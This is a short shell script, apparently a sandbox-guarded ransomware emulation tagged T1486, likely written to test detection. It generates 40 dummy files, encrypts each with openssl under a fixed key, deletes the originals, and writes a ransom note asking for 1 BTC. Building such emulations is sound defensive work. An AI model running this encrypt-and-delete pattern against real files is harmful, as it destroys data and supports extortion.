#!/bin/sh
# technique: T1486
# needs: openssl
[ "$USER" = sandbox ] || { echo "only for the inside of a sandbox: shieldx run"; exit 99; }

mkdir -p docs
for i in $(seq 40); do seq 1 900 | sed "s/^/row $i /" > "docs/report-$i.txt"; done
for f in docs/*; do openssl enc -aes-256-cbc -pbkdf2 -k x -in "$f" -out "$f.locked" && rm "$f"; done; echo 'Your files are encrypted. Send 1 BTC to get them back.' > docs/README_DECRYPT.txt
